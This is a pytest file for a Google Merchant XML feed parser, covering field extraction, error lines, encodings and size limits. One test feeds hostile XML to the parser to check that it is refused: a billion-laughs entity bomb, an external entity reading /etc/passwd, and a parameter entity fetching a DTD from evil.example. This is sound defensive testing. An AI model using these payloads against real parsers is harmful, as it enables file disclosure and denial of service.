"""Google Merchant XML: RSS and Atom with g: fields."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest

from catalog_index.feeds import FeedError, FeedFormat, open_feed
from catalog_index.product import Money
from tests.support.feeds import OPTIONS, merchant_feed, read, write

ITEM = """<item>
<g:id>{id}</g:id><title>Plain title</title><g:title>Robot &amp; arm</g:title>
<description><![CDATA[<p>Strong.</p><p>Ages 8+</p>]]></description>
<link>https://shop.example/p/{id}</link>
<g:image_link>https://i.example/1.jpg</g:image_link>
<g:additional_image_link>https://i.example/2.jpg</g:additional_image_link>
<g:additional_image_link>https://i.example/3.jpg</g:additional_image_link>
<g:shipping><g:country>US</g:country><g:price>4.95 USD</g:price></g:shipping>
<g:product_highlight>Bends</g:product_highlight><g:product_highlight>Lifts</g:product_highlight>
<g:product_type>Toys &gt; Robots</g:product_type>
<g:price>{price}</g:price>
</item>
"""


def rss(*items: str, head: str = "", declaration: str = '<?xml version="1.0"?>') -> str:
    body = "".join(items)
    return (
        f'{declaration}{head}\n<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0"><channel>\n'
        f"<title>Shop</title><link>https://shop.example</link><price>1</price>\n{body}</channel></rss>"
    )


def test_reads_an_item(tmp_path: Path) -> None:
    path = write(tmp_path, rss(ITEM.format(id="r1", price="49.00 EUR")))
    assert open_feed(path).format is FeedFormat.GOOGLE_XML
    (entry,) = read(path)
    product = entry.product
    assert product is not None
    assert entry.line == 4
    assert (product.id, product.title, product.description) == ("r1", "Robot & arm", "Strong.\nAges 8+")
    assert product.price == Money(Decimal("49.00"), "EUR")
    assert product.link == "https://shop.example/p/r1"
    assert product.images == tuple(f"https://i.example/{n}.jpg" for n in (1, 2, 3))
    assert product.categories == ("Toys", "Robots")
    assert (product.age_min, product.age_max) == (8, None)
    assert product.attributes == {"shipping": "US:4.95 USD", "product_highlight": "Bends; Lifts"}


def test_bad_items_are_reported_with_their_line_and_the_rest_goes_in(tmp_path: Path) -> None:
    items = [ITEM.format(id=f"r{n}", price=price) for n, price in enumerate(["5 EUR", "0", "x", "6 EUR"])]
    items.append("<item><g:id>r9</g:id></item>\n")
    items.append(ITEM.format(id="r0", price="7 EUR"))
    entries = read(write(tmp_path, rss(*items)))
    assert [entry.line for entry in entries] == [4, 16, 28, 40, 52, 53]
    assert [entry.product.id if entry.product else None for entry in entries] == ["r0", None, None, "r3", None, None]
    assert [(p.line, p.field) for entry in entries for p in entry.problems] == [
        (16, "price"),
        (28, "price"),
        (52, "title"),
        (52, "price"),
        (52, "link"),
        (53, "id"),
    ]


def test_atom_with_href_links(tmp_path: Path) -> None:
    text = """<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0"><title>S</title>
<entry><g:id>1</g:id><title>Kit</title><link rel="self" href="https://api.example/1"/>
<link href="https://shop.example/p/1"/><summary>x</summary><g:price>5.00 GBP</g:price></entry></feed>"""
    (entry,) = read(write(tmp_path, text))
    assert entry.product is not None
    assert entry.product.link == "https://shop.example/p/1"
    assert entry.product.price == Money(Decimal("5.00"), "GBP")


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [("UTF-8", "utf-8"), ("ISO-8859-1", "latin-1"), ("windows-1252", "cp1252"), ("UTF-16", "utf-16")],
)
def test_encodings(tmp_path: Path, declared: str, encoding: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>'
    text = rss(ITEM.format(id="r1", price="5 EUR").replace("Robot", "Bücher für Mädchen"), declaration=declaration)
    (entry,) = read(write(tmp_path, text, encoding=encoding))
    assert entry.product is not None
    assert entry.product.title == "Bücher für Mädchen & arm"


def test_a_declared_encoding_that_is_not_read(tmp_path: Path) -> None:
    declaration = '<?xml version="1.0" encoding="windows-1250"?>'
    text = rss(ITEM.format(id="1", price="5 EUR").replace("Robot", "für Mädchen"), declaration=declaration)
    with pytest.raises(FeedError, match=r"windows-1250.*UTF-8.*UTF-16.*Windows-1252"):
        read(write(tmp_path, text, encoding="cp1252"))


BILLION_LAUGHS = (
    "<!DOCTYPE rss [<!ENTITY a 'haha'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize(
    "head",
    [
        BILLION_LAUGHS,
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]>",
        f"<!DOCTYPE rss [<!ENTITY big '{'x' * 100_000}'>]>",
    ],
)
def test_entity_bombs_are_refused(tmp_path: Path, head: str) -> None:
    text = rss(ITEM.format(id="1", price="5 EUR"), head=head).replace("Plain title", "&i;")
    with pytest.raises(FeedError, match="declares entities"):
        read(write(tmp_path, text))


def test_xml_that_breaks_off(tmp_path: Path) -> None:
    text = rss(ITEM.format(id="1", price="5 EUR"))[:-20]
    with pytest.raises(FeedError, match=r"not well-formed.*line 15"):
        read(write(tmp_path, text))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("<catalog><x/></catalog>", "starts with <catalog>"),
        ("<rss>" + "<a>" * 60, "nests deeper"),
        ("<rss><item>&undefined;</item></rss>", "not well-formed"),
    ],
)
def test_xml_that_is_no_feed(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(FeedError, match=message):
        read(write(tmp_path, text))


def test_a_huge_field_refuses_its_item_only(tmp_path: Path) -> None:
    big = ITEM.format(id="2", price="5 EUR").replace("Strong.", "x" * 5_000_000)
    entries = read(write(tmp_path, rss(ITEM.format(id="1", price="5 EUR"), big, ITEM.format(id="3", price="5 EUR"))))
    assert [entry.product is not None for entry in entries] == [True, False, True]
    problem = entries[1].problems[0]
    assert (problem.line, problem.field, len(problem.value)) == (16, "description", 80)
    assert "100,000 characters" in problem.reason


def test_the_limit_is_a_setting(tmp_path: Path) -> None:
    path = write(tmp_path, rss(ITEM.format(id="1", price="5 EUR")))
    (entry,) = read(path, replace(OPTIONS, max_cell_chars=15))
    assert entry.product is None


def test_a_real_gift_shop() -> None:
    entries = read(merchant_feed("google-merchant-giftshop.xml"))
    products = [entry.product for entry in entries if entry.product]
    assert len(entries) == len(products) == 13
    assert [entry.problems for entry in entries] == [()] * 13
    assert sum(product.price.amount for product in products) == Decimal("52050.00")
    assert {product.price.currency for product in products} == {"KES"}
    first = products[0]
    assert first.id == "uhuru-home-set"
    assert first.link == "https://www.sharoncraft.co.ke/product.html?id=uhuru-home-set"
    assert first.categories == ("SharonCraft", "Gift Sets")
    assert len(first.images) == 3
    assert {label for product in products for label in (*product.occasions, *product.interests)} == set()
    assert all(product.is_available for product in products)
    assert {(product.age_min, product.age_max) for product in products} == {(None, None)}
